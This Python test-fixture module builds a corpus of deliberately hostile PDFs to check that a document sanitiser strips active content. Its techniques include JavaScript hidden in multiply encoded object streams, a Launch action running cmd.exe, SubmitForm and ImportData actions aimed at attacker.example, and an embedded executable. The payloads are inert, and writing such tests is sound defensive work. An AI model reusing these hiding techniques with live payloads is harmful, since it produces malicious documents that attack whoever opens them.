"""Hostile hand-over PDFs, built with pikepdf: one function per way of hiding active content.

Every builder returns the bytes of a valid one-page PDF whose page shows `VISIBLE_TEXT`, and
whose active part (a script, a program to launch, a web address, an attached file, a form)
carries `PAYLOAD`, so a test can tell that the part is gone after parsing the stored file.
Nothing here is harmful when opened: the scripts call `app.alert`, the addresses point at
`attacker.example`.

The files are built when the tests run (`test_grant_document_pdf.py`); run this module to
write them to a folder for a look in a PDF reader:

    .venv/bin/python -m programs.tests.pdf_corpus /tmp/pdf-corpus
"""

import base64
import io
import struct
import sys
import zlib
from pathlib import Path

import pikepdf
from pikepdf import Array, Dictionary, Name, String

PAYLOAD = "CORPUS-PAYLOAD"
SCRIPT = f"app.alert('{PAYLOAD}');".encode()
ADDRESS = f"https://attacker.example/{PAYLOAD}"
VISIBLE_TEXT = b"BAST/DINSOS-JATIM/2026/0001"

# (filter names as written in /Filter, in decoding order) -> encode raw bytes that way.
_ENCODERS = {
    "FlateDecode": zlib.compress,
    "ASCIIHexDecode": lambda data: data.hex().encode() + b">",
    "ASCII85Decode": lambda data: base64.a85encode(data) + b"~>",
}


def _document():
    """A new PDF with one page that shows VISIBLE_TEXT, and that page."""
    pdf = pikepdf.new()
    pdf.add_blank_page(page_size=(595, 842))
    page = pdf.pages[0]
    font = Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica)
    page.Resources = Dictionary(Font=Dictionary(F1=font))
    page.Contents = pdf.make_stream(b"BT /F1 12 Tf 72 760 Td (" + VISIBLE_TEXT + b") Tj ET")
    return pdf, page


def _encoded_stream(pdf, data: bytes, filters: list[str]):
    """A stream holding `data` encoded with `filters` (the first listed is undone first)."""
    for name in reversed(filters):
        data = _ENCODERS[name](data)
    stream = pikepdf.Stream(pdf, data)  # the bytes are stored as they are: already encoded
    stream.Filter = Array([Name("/" + name) for name in filters])
    return pdf.make_indirect(stream)


def _javascript(pdf, filters: list[str] | None = None):
    """A JavaScript action; its script is a string, or a stream encoded with `filters`."""
    script = String(SCRIPT) if filters is None else _encoded_stream(pdf, SCRIPT, filters)
    return pdf.make_indirect(Dictionary(Type=Name.Action, S=Name.JavaScript, JS=script))


def _save(pdf, *, object_streams: bool = False) -> bytes:
    """The file as built: streams written as encoded here, object streams only if asked."""
    out = io.BytesIO()
    if object_streams:
        pdf.save(
            out,
            compress_streams=True,
            object_stream_mode=pikepdf.ObjectStreamMode.generate,
            stream_decode_level=pikepdf.StreamDecodeLevel.none,
            fix_metadata_version=False,
        )
    else:
        pdf.save(
            out,
            compress_streams=False,
            object_stream_mode=pikepdf.ObjectStreamMode.disable,
            stream_decode_level=pikepdf.StreamDecodeLevel.none,
            fix_metadata_version=False,
        )
    return out.getvalue()


def _open_action_in_object_stream(filters: list[str]) -> bytes:
    """The catalog (/OpenAction) and its JavaScript action sit in an object stream encoded
    with `filters` (the first listed is undone first), so neither name is in the file's
    plain bytes.

    Written by hand: qpdf rewrites object streams with its own single Flate, so it cannot
    make one encoded twice. A PDF 1.5 file: the object stream (1), the page's content (6)
    and a cross-reference stream (7) that points into the object stream for 2 to 5.
    """
    packed = {
        2: b"<< /Type /Catalog /Pages 3 0 R /OpenAction 5 0 R >>",
        3: b"<< /Type /Pages /Kids [4 0 R] /Count 1 >>",
        4: b"<< /Type /Page /Parent 3 0 R /MediaBox [0 0 595 842] /Contents 6 0 R"
        b" /Resources << /Font << /F1 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica"
        b" >> >> >> >>",
        5: b"<< /Type /Action /S /JavaScript /JS (" + SCRIPT + b") >>",
    }
    index, body = [], b""
    for number, text in packed.items():
        index.append(b"%d %d" % (number, len(body)))
        body += text + b"\n"
    head = b" ".join(index) + b"\n"
    data = head + body
    for name in reversed(filters):
        data = _ENCODERS[name](data)
    names = b" ".join(b"/" + name.encode() for name in filters)
    content = zlib.compress(b"BT /F1 12 Tf 72 760 Td (" + VISIBLE_TEXT + b") Tj ET")

    out = bytearray(b"%PDF-1.5\n%\xe2\xe3\xcf\xd3\n")
    offsets = {1: len(out)}
    out += b"1 0 obj\n<< /Type /ObjStm /N %d /First %d /Filter [%s] /Length %d >>\nstream\n" % (
        len(packed),
        len(head),
        names,
        len(data),
    )
    out += data + b"\nendstream\nendobj\n"
    offsets[6] = len(out)
    out += b"6 0 obj\n<< /Filter /FlateDecode /Length %d >>\nstream\n" % len(content)
    out += content + b"\nendstream\nendobj\n"
    offsets[7] = len(out)
    rows = [struct.pack(">BIH", 0, 0, 0xFFFF), struct.pack(">BIH", 1, offsets[1], 0)]
    rows += [struct.pack(">BIH", 2, 1, position) for position in range(len(packed))]
    rows += [struct.pack(">BIH", 1, offsets[6], 0), struct.pack(">BIH", 1, offsets[7], 0)]
    table = b"".join(rows)
    out += b"7 0 obj\n<< /Type /XRef /Size 8 /W [1 4 2] /Root 2 0 R /Length %d >>\nstream\n" % (
        len(table)
    )
    out += table + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % offsets[7]
    return bytes(out)


def object_stream() -> bytes:
    """/OpenAction -> /JavaScript inside a Flate-compressed object stream."""
    return _open_action_in_object_stream(["FlateDecode"])


def object_stream_flate_flate() -> bytes:
    """... in an object stream compressed twice with Flate."""
    return _open_action_in_object_stream(["FlateDecode", "FlateDecode"])


def object_stream_flate_hex() -> bytes:
    """... in an object stream written as ASCIIHex, then compressed with Flate."""
    return _open_action_in_object_stream(["FlateDecode", "ASCIIHexDecode"])


def object_stream_hex_flate() -> bytes:
    """... in an object stream compressed with Flate, then written as ASCIIHex."""
    return _open_action_in_object_stream(["ASCIIHexDecode", "FlateDecode"])


def object_stream_flate_a85() -> bytes:
    """... in an object stream written as ASCII85, then compressed with Flate."""
    return _open_action_in_object_stream(["FlateDecode", "ASCII85Decode"])


def object_stream_a85_flate() -> bytes:
    """... in an object stream compressed with Flate, then written as ASCII85."""
    return _open_action_in_object_stream(["ASCII85Decode", "FlateDecode"])


def script_stream_flate_flate() -> bytes:
    """/OpenAction -> /JavaScript whose script is a stream compressed twice with Flate."""
    pdf, _page = _document()
    pdf.Root.OpenAction = _javascript(pdf, ["FlateDecode", "FlateDecode"])
    return _save(pdf)


def names_javascript() -> bytes:
    """Document-level JavaScript in the /Names tree, run when the file opens."""
    pdf, _page = _document()
    tree = Dictionary(Names=Array([String("init"), _javascript(pdf, ["FlateDecode"])]))
    pdf.Root.Names = Dictionary(JavaScript=pdf.make_indirect(tree))
    return _save(pdf)


def launch_action() -> bytes:
    """/OpenAction -> /Launch: start a program."""
    pdf, _page = _document()
    pdf.Root.OpenAction = Dictionary(
        Type=Name.Action,
        S=Name.Launch,
        F=String("cmd.exe"),
        Win=Dictionary(F=String("cmd.exe"), P=String(f"/c echo {PAYLOAD}")),
    )
    return _save(pdf)


def _link(action) -> Dictionary:
    return Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([72, 700, 300, 720]), A=action)


def uri_link() -> bytes:
    """A link annotation over the page text that opens a web address."""
    pdf, page = _document()
    page.Annots = pdf.make_indirect(
        Array([pdf.make_indirect(_link(Dictionary(S=Name.URI, URI=String(ADDRESS))))])
    )
    return _save(pdf)


def remote_actions() -> bytes:
    """Links that submit a form, import data, open another file or an embedded one."""
    pdf, page = _document()
    target = String(ADDRESS)
    actions = [
        Dictionary(S=Name.SubmitForm, F=Dictionary(FS=Name.URL, F=target)),
        Dictionary(S=Name.ImportData, F=target),
        Dictionary(S=Name.GoToR, F=target, D=Array([0, Name.Fit])),
        Dictionary(S=Name.GoToE, F=target, D=Array([0, Name.Fit])),
        Dictionary(S=Name.JavaScript, JS=String(SCRIPT)),
    ]
    page.Annots = Array([pdf.make_indirect(_link(action)) for action in actions])
    return _save(pdf)


def _file_spec(pdf) -> Dictionary:
    attached = pdf.make_stream(f"MZ {PAYLOAD}".encode())
    attached.Type = Name.EmbeddedFile
    return pdf.make_indirect(
        Dictionary(Type=Name.Filespec, F=String("tool.exe"), EF=Dictionary(F=attached))
    )


def embedded_file() -> bytes:
    """An attached program: in the /EmbeddedFiles name tree and as a FileAttachment note."""
    pdf, page = _document()
    spec = _file_spec(pdf)
    pdf.Root.Names = Dictionary(EmbeddedFiles=Dictionary(Names=Array([String("tool.exe"), spec])))
    page.Annots = Array(
        [
            pdf.make_indirect(
                Dictionary(
                    Type=Name.Annot,
                    Subtype=Name.FileAttachment,
                    Rect=Array([72, 600, 90, 620]),
                    FS=spec,
                    Contents=String(PAYLOAD),
                )
            )
        ]
    )
    return _save(pdf)


def acroform_xfa() -> bytes:
    """A form (AcroForm) with an XFA packet and a field that runs a script when it is
    focused; the XFA itself also carries a script."""
    pdf, page = _document()
    xfa = pdf.make_stream(
        b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template><subform>'
        b'<event activity="initialize"><script contentType="application/x-javascript">'
        + SCRIPT
        + b"</script></event></subform></template></xdp:xdp>"
    )
    field = pdf.make_indirect(
        Dictionary(
            Type=Name.Annot,
            Subtype=Name.Widget,
            FT=Name.Tx,
            T=String("nama"),
            Rect=Array([72, 500, 300, 520]),
            P=page.obj,
            AA=Dictionary(Fo=_javascript(pdf, ["FlateDecode"])),
        )
    )
    page.Annots = Array([field])
    pdf.Root.AcroForm = Dictionary(Fields=Array([field]), XFA=xfa, NeedAppearances=True)
    return _save(pdf)


def page_additional_actions() -> bytes:
    """The page's /AA runs a script when the page is opened, and an outline item (a
    bookmark) runs one when clicked."""
    pdf, page = _document()
    page.AA = Dictionary(O=_javascript(pdf, ["ASCII85Decode", "FlateDecode"]))
    item = pdf.make_indirect(Dictionary(Title=String("BAST"), A=_javascript(pdf)))
    outlines = pdf.make_indirect(Dictionary(Type=Name.Outlines, First=item, Last=item, Count=1))
    item.Parent = outlines
    pdf.Root.Outlines = outlines
    return _save(pdf)


def rich_media() -> bytes:
    """A RichMedia (Flash) annotation."""
    pdf, page = _document()
    page.Annots = Array(
        [
            pdf.make_indirect(
                Dictionary(
                    Type=Name.Annot,
                    Subtype=Name.RichMedia,
                    Rect=Array([72, 400, 300, 500]),
                    RichMediaContent=Dictionary(Assets=Dictionary(Names=Array([]))),
                    RichMediaSettings=Dictionary(
                        Activation=Dictionary(Condition=Name.PO, Scripts=Array([String(PAYLOAD)]))
                    ),
                )
            )
        ]
    )
    return _save(pdf)


HOSTILE = {
    "object-stream": object_stream,
    "object-stream-flate-flate": object_stream_flate_flate,
    "object-stream-flate-hex": object_stream_flate_hex,
    "object-stream-hex-flate": object_stream_hex_flate,
    "object-stream-flate-a85": object_stream_flate_a85,
    "object-stream-a85-flate": object_stream_a85_flate,
    "script-stream-flate-flate": script_stream_flate_flate,
    "names-javascript": names_javascript,
    "launch": launch_action,
    "uri-link": uri_link,
    "remote-actions": remote_actions,
    "embedded-file": embedded_file,
    "acroform-xfa": acroform_xfa,
    "page-additional-actions": page_additional_actions,
    "rich-media": rich_media,
}


def clean_text() -> bytes:
    """A plain one-page PDF with its text in a Flate stream, in an object stream."""
    pdf, _page = _document()
    return _save(pdf, object_streams=True)


def main(folder: str) -> None:
    target = Path(folder)
    target.mkdir(parents=True, exist_ok=True)
    for name, build in {**HOSTILE, "clean-text": clean_text}.items():
        (target / f"{name}.pdf").write_bytes(build())


if __name__ == "__main__":
    main(sys.argv[1] if len(sys.argv) > 1 else "pdf-corpus")
